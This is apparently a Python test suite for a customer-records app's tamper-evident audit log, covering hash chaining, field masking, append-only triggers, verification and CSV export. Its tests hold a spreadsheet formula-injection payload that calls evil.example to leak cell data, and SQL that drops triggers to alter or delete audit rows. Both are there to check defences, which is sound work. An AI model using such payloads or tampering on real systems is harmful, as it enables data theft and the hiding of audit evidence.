"""The tamper-evident audit log: entries per event, masking, append-only triggers, verify, API and UI."""

from __future__ import annotations

import csv
import io
import itertools
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select, text
from sqlalchemy.engine import Connection, Engine
from sqlalchemy.exc import DBAPIError
from sqlalchemy.orm import Session
from tests.factories import make_customer, make_order
from tests.web.test_pages import sign_in
from typer.testing import CliRunner

from custinfo.audit import anchor, chain, service
from custinfo.audit.models import AuditEntry
from custinfo.auth.models import User
from custinfo.auth.policy import Principal
from custinfo.cli.main import app as cli
from custinfo.core.db import make_session_factory
from custinfo.core.spreadsheet import safe_cell
from custinfo.core.uow import Actor, record, unit_of_work
from custinfo.customers.identifiers import make_id_number
from custinfo.protection.events import SensitiveFieldRead
from custinfo.protection.views import FieldView

ID_NUMBER = make_id_number("320102", date(1991, 7, 21), 33)


def _entries(session: Session) -> list[AuditEntry]:
    return list(session.scalars(select(AuditEntry).order_by(AuditEntry.seq)))


def _fill(session: Session, world: dict[str, User], n: int = 4) -> None:
    session.info["actor"] = Actor("sales_east1", role="sales", address="10.0.0.7")
    for i in range(n):
        make_customer(session, world["sales_east1"], kind="individual", name=f"客户{i}")
    record(session, SensitiveFieldRead(customer_id=1, fields=("id_number",), level="L3", purpose="reveal"))
    session.commit()


def test_every_write_and_event_is_chained_with_masked_values(
    session: Session, world: dict[str, User]
) -> None:
    session.info["actor"] = Actor("sales_east1", role="sales", address="10.0.0.7")
    customer = make_customer(
        session,
        world["sales_east1"],
        kind="individual",
        id_number=ID_NUMBER,
        name="周八",
        birth_date=date(1991, 7, 21),
    )
    record(
        session,
        SensitiveFieldRead(customer_id=customer.id, fields=("id_number",), level="L3", purpose="reveal"),
    )
    session.commit()
    entries = _entries(session)
    create = next(e for e in entries if e.action == "customer.create" and e.customer_id == customer.id)
    assert create.actor == "sales_east1" and create.role == "sales" and create.address == "10.0.0.7"
    assert create.details["changes"]["id_number"] == [None, ID_NUMBER[:6] + "********" + ID_NUMBER[-4:]]
    assert create.details["changes"]["birth_date"][1] == "1991-**-**"
    read = next(e for e in entries if e.action == "sensitive_read")
    assert read.customer_id == customer.id and read.details["fields"] == ["id_number"]
    for before, after in itertools.pairwise(entries):
        assert after.seq == before.seq + 1 and after.prev_hash == before.hash
    assert chain.verify(session.connection()).ok


def test_change_history_masks_l3_values_too(session: Session, world: dict[str, User]) -> None:
    customer = make_customer(session, world["sales_east1"], kind="individual", id_number=ID_NUMBER)
    session.commit()
    rows = session.execute(
        text("SELECT changes FROM change_records WHERE customer_id = :id"), {"id": customer.id}
    )
    assert ID_NUMBER not in str(rows.all())


@pytest.mark.parametrize("statement", ["UPDATE audit_log SET actor = 'x'", "DELETE FROM audit_log"])
def test_audit_rows_cannot_be_updated_or_deleted(
    session: Session, world: dict[str, User], statement: str
) -> None:
    _fill(session, world, 1)
    with pytest.raises(DBAPIError, match="append-only"), session.begin_nested():
        session.execute(text(statement))


def _drop_triggers(connection: Connection) -> None:
    """What an attacker with file or owner access could do: remove the append-only triggers."""
    if connection.dialect.name == "postgresql":
        connection.execute(text("DROP TRIGGER audit_log_append_only ON audit_log"))
    else:
        connection.execute(text("DROP TRIGGER audit_log_no_update"))
        connection.execute(text("DROP TRIGGER audit_log_no_delete"))


TAMPERING = {
    "edit": ("UPDATE audit_log SET details = '{\"changes\": {}}' WHERE seq = :third", "was altered"),
    "delete": ("DELETE FROM audit_log WHERE seq = :third", "missing or out of order"),
    "reorder": (
        "UPDATE audit_log SET seq = CASE WHEN seq = :third THEN -1 ELSE seq END WHERE seq IN (:third);"
        "UPDATE audit_log SET seq = :third WHERE seq = :third + 1;"
        "UPDATE audit_log SET seq = :third + 1 WHERE seq = -1",
        "",
    ),
    "truncate_tail": ("DELETE FROM audit_log WHERE seq > :third", "were deleted"),
}


@pytest.mark.parametrize("kind", list(TAMPERING))
def test_verify_names_the_first_tampered_entry(session: Session, world: dict[str, User], kind: str) -> None:
    _fill(session, world)
    assert chain.verify(session.connection()).ok
    first = _entries(session)[0].seq
    third = first + 2
    connection = session.connection()
    _drop_triggers(connection)
    statements, reason = TAMPERING[kind]
    for sql in statements.split(";"):
        connection.execute(text(sql), {"third": third})
    result = chain.verify(connection)
    assert not result.ok
    assert result.bad_seq == (third + 1 if kind == "truncate_tail" else third)
    assert reason in (result.reason or "")
    assert f"entry {result.bad_seq}" in (result.reason or "")


def test_postgres_application_role_may_not_update_audit_rows(
    session: Session, world: dict[str, User]
) -> None:
    connection = session.connection()
    if connection.dialect.name != "postgresql":
        pytest.skip("roles and grants are PostgreSQL's")
    _fill(session, world, 1)
    _drop_triggers(connection)  # so that the refusal below comes from the missing privilege alone
    connection.execute(text("CREATE ROLE custinfo_app_test NOLOGIN"))
    connection.execute(text("GRANT SELECT, INSERT ON audit_log TO custinfo_app_test"))
    connection.execute(text("SET LOCAL ROLE custinfo_app_test"))
    with pytest.raises(DBAPIError, match="permission denied"), session.begin_nested():
        session.execute(text("UPDATE audit_log SET actor = 'x'"))
    connection.execute(text("RESET ROLE"))


def test_cli_verify_exit_codes(own_engine: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CUSTINFO_DATABASE_URL", own_engine.url.render_as_string(hide_password=False))
    monkeypatch.setenv("CUSTINFO_DATA_DIR", str(tmp_path))
    monkeypatch.delenv("CUSTINFO_AUDIT_ANCHOR_FILE")
    monkeypatch.setattr(anchor, "_path", tmp_path / "audit-anchor.jsonl")
    with unit_of_work(make_session_factory(own_engine), Actor("admin", role="admin")) as s:
        for i in range(3):
            record(s, SensitiveFieldRead(customer_id=i + 1, fields=("address",), level="L3", purpose="view"))
    runner = CliRunner()
    intact = runner.invoke(cli, ["audit", "verify"])
    assert intact.exit_code == 0, intact.output
    assert "3 entries verified" in intact.output
    with own_engine.begin() as conn:
        _drop_triggers(conn)
        conn.execute(text("UPDATE audit_log SET actor = 'mallory' WHERE seq = 2"))
    tampered = runner.invoke(cli, ["audit", "verify"])
    assert tampered.exit_code == 1
    assert "entry 2 was altered (MAC mismatch)" in tampered.output


def test_audit_api_filters_and_permissions(client: TestClient, login, session: Session, world) -> None:  # type: ignore[no-untyped-def]
    _fill(session, world, 2)
    client.post("/api/v1/auth/token", data={"username": "sales_east1", "password": "wrong-password-1"})
    headers = login("auditor")
    failed = client.get("/api/v1/audit", params={"action": "login.failed"}, headers=headers).json()
    assert failed["total"] == 1 and failed["items"][0]["actor"] == "sales_east1"
    writes = client.get(
        "/api/v1/audit", params={"action": "customer", "actor": "sales_east1"}, headers=headers
    )
    assert writes.json()["total"] == 2
    assert all(item["action"] == "customer.create" for item in writes.json()["items"])
    bad = client.get("/api/v1/audit", params={"since": "2026-01-01T00:00:00"}, headers=headers)
    assert bad.status_code == 422 and bad.json()["errors"][0]["field"] == "since"
    assert client.get("/api/v1/audit", headers=login("sales_east1")).status_code == 403
    assert client.get("/api/v1/audit").status_code == 401


def test_audit_csv_export_is_itself_audited(client: TestClient, login, session: Session, world) -> None:  # type: ignore[no-untyped-def]
    _fill(session, world, 1)
    headers = login("admin")
    response = client.get("/api/v1/audit/export.csv", params={"action": "customer"}, headers=headers)
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    assert "customer.create" in response.text
    exports = client.get("/api/v1/audit", params={"action": "export"}, headers=headers).json()
    assert exports["total"] == 1 and exports["items"][0]["details"]["what"] == "audit_log"


def test_auditor_page_lists_and_filters(client: TestClient, session: Session, world: dict[str, User]) -> None:
    _fill(session, world, 2)
    assert sign_in(client, "auditor").status_code == 303
    page = client.get("/audit", params={"action": "customer.create"})
    assert page.status_code == 200
    assert page.text.count("<td>新建客户档案</td>") == 2 and "<code>customer.create</code>" not in page.text
    assert 'href="/audit"' in page.text  # the navigation shows the audit log to auditors
    csv = client.get("/audit/export.csv", params={"actor": "sales_east1"})
    assert csv.status_code == 200 and "sales_east1" in csv.text
    client.cookies.clear()
    assert sign_in(client, "sales_east1").status_code == 303
    assert client.get("/audit").status_code == 403


NASTY_DETAILS = {
    "nul": "a\x00b",
    "surrogate": "x\ud800y",
    "lines": "line one\nline two\ttabbed\r",
    "long": "长" * 5000,
    "nan": float("nan"),
    "inf": float("-inf"),
    "huge": 2**70,
    "deep": {"a": {"b": {"c": {"d": {"e": {"f": {"g": "h"}}}}}}},
    "many": list(range(1000)),
    "tuple": (1, "2"),
    "when": date(2026, 1, 2),
    7: "a key that is not text",
}


def test_audit_values_are_stored_exactly_as_sealed(session: Session) -> None:
    head = chain.append(
        session,
        actor="\t" * 60 + "mallory" + " " * 70,
        role="r" * 100,
        action="login.failed",
        target_type="user",
        target_id="id\x00" + " " * 200,  # PostgreSQL would silently cut trailing spaces of a too long value
        customer_id=2**70,
        details=NASTY_DETAILS,
        address="::ffff:" + "9" * 100,
    )
    session.flush()
    session.expire_all()
    entry = session.get(AuditEntry, head.seq)
    assert entry is not None
    assert len(entry.actor) == 64 and entry.actor.endswith("…") and "\t" not in entry.actor
    assert len(entry.role or "") == 20 and len(entry.target_id or "") == 64 and len(entry.address or "") == 64
    assert "\x00" not in (entry.target_id or "") and entry.customer_id is None
    details = entry.details
    assert details["nul"] == "a\ufffdb" and details["surrogate"] == "x\ufffdy"
    assert details["lines"] == NASTY_DETAILS["lines"]  # line breaks in details are kept
    assert len(details["long"]) == chain.TEXT_IN_DETAILS and details["nan"] == "nan"
    assert details["huge"] == str(2**70) and len(details["many"]) == chain.ITEMS_IN_DETAILS
    assert details["tuple"] == [1, "2"] and details["when"] == "2026-01-02" and details["7"]
    assert chain.verify(session.connection()).ok
    fields = {name: getattr(entry, name) for name in chain.HASHED}
    assert chain.entry_mac(fields, entry.prev_hash) == entry.hash == head.mac


def test_oversized_details_are_replaced_by_a_note(session: Session) -> None:
    head = chain.append(
        session, actor="x", role=None, action="export", details={f"k{i}": "v" * 900 for i in range(150)}
    )
    entry = session.get(AuditEntry, head.seq)
    assert entry is not None and entry.details["omitted"].startswith("details longer than")
    assert chain.verify(session.connection()).ok


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_safe_cell_neutralises_every_formula_prefix(prefix: str) -> None:
    assert safe_cell(f'{prefix}HYPERLINK("http://evil")') == f'\'{prefix}HYPERLINK("http://evil")'


def test_safe_cell_leaves_other_values_alone() -> None:
    assert [safe_cell(v) for v in ("张三", "a=b", "", 42, None, -1)] == ["张三", "a=b", "", 42, None, -1]


def test_audit_csv_cells_never_start_a_formula(client: TestClient, login, world) -> None:  # type: ignore[no-untyped-def]
    payload = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert _token_attempt(client, payload).status_code == 401
    assert _token_attempt(client, "@SUM(1+1)").status_code == 401
    response = client.get("/api/v1/audit/export.csv", params={"action": "login"}, headers=login("admin"))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + payload in cells and "'@SUM(1+1)" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def _token_attempt(client: TestClient, username: str):  # type: ignore[no-untyped-def]
    return client.post("/api/v1/auth/token", data={"username": username, "password": "wrong-password-1"})


OLD_MOBILE, NEW_MOBILE, AMOUNT = "13907331821", "13907339944", Decimal("614321.57")
MASKED_ID = ID_NUMBER[:6] + "********" + ID_NUMBER[-4:]


def _changed(session: Session, world: dict[str, User]) -> int:
    """A customer created with an L3 value, its mobile changed, and an order (L2 amount) added."""
    session.info["actor"] = Actor("sales_east1", role="sales", address="10.0.0.7")
    customer = make_customer(
        session, world["sales_east1"], kind="individual", mobile=OLD_MOBILE, id_number=ID_NUMBER
    )
    session.flush()
    customer.mobile = NEW_MOBILE
    make_order(session, customer, amount=AMOUNT)
    session.commit()
    return customer.id


def _stored(session: Session) -> list[tuple[int, dict[str, Any], str]]:
    session.expire_all()
    return [(e.seq, e.details, e.hash) for e in _entries(session)]


def _item(items: list[dict[str, Any]], action: str) -> dict[str, Any]:
    return next(item for item in items if item["action"] == action)


def test_auditor_sees_which_fields_changed_but_no_value(  # type: ignore[no-untyped-def]
    client: TestClient, login, session: Session, world: dict[str, User]
) -> None:
    _changed(session, world)
    before = _stored(session)
    response = client.get("/api/v1/audit", params={"action": "customer"}, headers=login("auditor"))
    assert response.status_code == 200
    for value in (OLD_MOBILE, NEW_MOBILE, MASKED_ID, ID_NUMBER):
        assert value not in response.text
    update = _item(response.json()["items"], "customer.update")
    assert update["details"] == {"changes": {"mobile": [None, None]}, "hidden_fields": ["mobile"]}
    assert update["actor"] == "sales_east1" and update["customer_id"] is not None
    create = _item(response.json()["items"], "customer.create")
    assert {"mobile", "id_number", "name"} <= set(create["details"]["hidden_fields"])
    # The owner's and department's ids and the birth year are the catalogue's owner, department and birth date.
    assert {"owner_id", "department_id", "birth_year"} <= set(create["details"]["hidden_fields"])
    shown = {name for name, pair in create["details"]["changes"].items() if pair != [None, None]}
    assert shown == {"kind"}  # not a catalogued field: individual or company
    orders = client.get("/api/v1/audit", params={"action": "order"}, headers=login("auditor")).json()
    assert _item(orders["items"], "order.create")["details"]["changes"]["amount"] == [None, None]
    assert "614321" not in str(orders)
    assert session.scalar(select(AuditEntry.seq).where(AuditEntry.action == "sensitive_read")) is None
    assert sign_in(client, "auditor").status_code == 303
    page = client.get("/audit", params={"action": "customer"})
    assert page.status_code == 200
    assert "手机号" in page.text and "已隐藏" in page.text and "hidden_fields" not in page.text
    for value in (OLD_MOBILE, NEW_MOBILE, MASKED_ID):
        assert value not in page.text
    after = _stored(session)
    assert after[: len(before)] == before  # shown, not rewritten: the sealed entries are as they were
    assert chain.verify(session.connection()).ok


def test_admin_sees_the_audit_log_through_its_field_view(  # type: ignore[no-untyped-def]
    client: TestClient, login, session: Session, world: dict[str, User]
) -> None:
    customer_id = _changed(session, world)
    items = client.get("/api/v1/audit", params={"size": 500}, headers=login("admin")).json()["items"]
    update = _item(items, "customer.update")
    assert update["details"] == {"changes": {"mobile": [OLD_MOBILE, NEW_MOBILE]}, "hidden_fields": []}
    create = _item(items, "customer.create")["details"]
    assert create["changes"]["id_number"] == [None, MASKED_ID]  # stored masked, not masked a second time
    assert create["changes"]["owner_id"] == [None, world["sales_east1"].id]
    assert "birth_year" in create["hidden_fields"]  # the birth date is masked for the admin
    assert _item(items, "order.create")["details"]["changes"]["amount"][1] in (str(AMOUNT), float(AMOUNT))
    reads = client.get("/api/v1/audit", params={"action": "sensitive_read"}, headers=login("admin")).json()
    assert any(
        r["customer_id"] == customer_id and r["actor"] == "admin" and r["details"]["level"] == "L2"
        for r in reads["items"]
    ), "a clear L2 value read through the audit log is logged like any other read"
    assert chain.verify(session.connection()).ok


def test_shown_details_mask_what_the_view_masks_and_name_what_it_hides(
    session: Session, world: dict[str, User]
) -> None:
    _changed(session, world)
    marketing = world["marketing"]
    view = FieldView(session, Principal(marketing.id, marketing.username, "marketing", None))
    entries = {e.action: e for e in _entries(session)}
    create = service.shown_details(view, entries["customer.create"])
    assert create["changes"]["mobile"][1] not in (None, OLD_MOBILE) and "*" in create["changes"]["mobile"][1]
    assert create["changes"]["id_number"] == [None, None] and "id_number" in create["hidden_fields"]
    order = service.shown_details(view, entries["order.create"])
    assert order["changes"]["amount"] == [None, None] and "amount" in order["hidden_fields"]
    read = entries["order.create"]
    assert read.details["changes"]["amount"][1] is not None  # the entry itself is untouched


def test_audit_csv_exports_follow_the_field_view(  # type: ignore[no-untyped-def]
    client: TestClient, login, session: Session, world: dict[str, User]
) -> None:
    _changed(session, world)
    api = client.get("/api/v1/audit/export.csv", params={"action": "customer"}, headers=login("auditor"))
    assert sign_in(client, "auditor").status_code == 303
    web = client.get("/audit/export.csv", params={"action": "customer"})
    for response in (api, web):
        assert response.status_code == 200
        rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
        update = next(row for row in rows if row["action"] == "customer.update")
        assert (
            '"mobile":[null,null]' in update["details"] and '"hidden_fields":["mobile"]' in update["details"]
        )
        for value in (OLD_MOBILE, NEW_MOBILE, MASKED_ID):
            assert value not in response.text
    admin = client.get("/api/v1/audit/export.csv", params={"action": "customer"}, headers=login("admin"))
    assert NEW_MOBILE in admin.text and MASKED_ID in admin.text and ID_NUMBER not in admin.text
